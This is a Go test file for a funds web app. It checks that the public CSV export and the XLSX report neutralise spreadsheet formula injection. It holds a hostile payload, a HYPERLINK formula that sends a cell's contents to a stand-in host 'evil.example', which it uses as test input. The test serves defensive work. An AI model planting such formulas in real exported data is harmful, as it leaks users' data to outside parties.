package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"onepool/internal/app"
	"onepool/internal/auth"
	"onepool/internal/clock"
	"onepool/internal/demo"
	"onepool/internal/ledger"
	"onepool/internal/store"
	"onepool/internal/store/storetest"
	"onepool/internal/web"
)

// TestExportCellsAreText: a channel named =HYPERLINK(…) is exported by the
// public funds.csv as text (an apostrophe first), its amounts as they are,
// and by the funds report xlsx as a string cell, never a formula.
func TestExportCellsAreText(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		a := auth.New(db, nil, auth.Config{ArgonMemoryKiB: 64, ArgonTime: 1})
		l := ledger.New(db, nil)
		runDemo(t, l, "")
		h := app.Server(web.Deps{DB: db, Ledger: l, Auth: a})
		tok, err := a.IssueToken(ctx, auth.Principal{Username: "demo.finance", Role: auth.RoleFinance, Place: "990101000000", County: "990101"}, "export")
		if err != nil {
			t.Fatal(err)
		}
		const evil = `=HYPERLINK("http://evil.example/?leak="&A1,"点我")`
		year := time.Now().In(clock.Zone).Format("2006")
		post := func(kind, body string) {
			t.Helper()
			r := httptest.NewRequest("POST", "/api/v1/funds/990101/import?kind="+kind, strings.NewReader(body))
			r.Header.Set("Authorization", "Bearer "+tok)
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			if w.Code != http.StatusOK {
				t.Fatalf("import %s: %d %s", kind, w.Code, w.Body)
			}
		}
		post("channels", "code,name,level,category,department,year\nEVIL,\""+strings.ReplaceAll(evil, `"`, `""`)+"\",county,fiscal,财政,"+year+"\n")
		post("arrivals", "key,channel,amount,day\nevil-1,EVIL,1234.50,"+year+"-01-02\n")

		b := newBrowser(t, h)
		w := b.do("GET", "/public/990101/funds.csv", nil, "")
		if w.Code != http.StatusOK {
			t.Fatalf("funds.csv: %d", w.Code)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\xEF\xBB\xBF"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
					t.Errorf("funds.csv has a formula cell %q", c)
				}
			}
			if row[0] == "EVIL" {
				found = true
				if row[1] != "'"+evil || row[2] != "1,234.50" && row[2] != "1234.50" {
					t.Errorf("funds.csv row %q", row)
				}
			}
		}
		if !found {
			t.Fatalf("funds.csv lacks the channel: %q", rows)
		}

		fin := newBrowser(t, h)
		fin.login("demo.finance", demo.Password("demo.finance"))
		w = fin.do("GET", "/funds/report.xlsx?year="+year, nil, "")
		if w.Code != http.StatusOK {
			t.Fatalf("report.xlsx: %d", w.Code)
		}
		x, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		sh := x.GetSheetList()[0]
		cells, _ := x.GetRows(sh) // our own small export
		found = false
		for i, row := range cells {
			for j, v := range row {
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, _ := x.GetCellFormula(sh, name); f != "" {
					t.Errorf("report.xlsx cell %s is a formula: %q", name, f)
				}
				if v == evil {
					found = true
					if typ, _ := x.GetCellType(sh, name); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("the channel's name is a cell of type %v", typ)
					}
				}
			}
		}
		if !found {
			t.Errorf("report.xlsx lacks the channel's name")
		}
	})
}

func isNumber(s string) bool {
	s = strings.TrimLeft(s, "+-")
	return s != "" && strings.Trim(s, "0123456789,.%") == ""
}
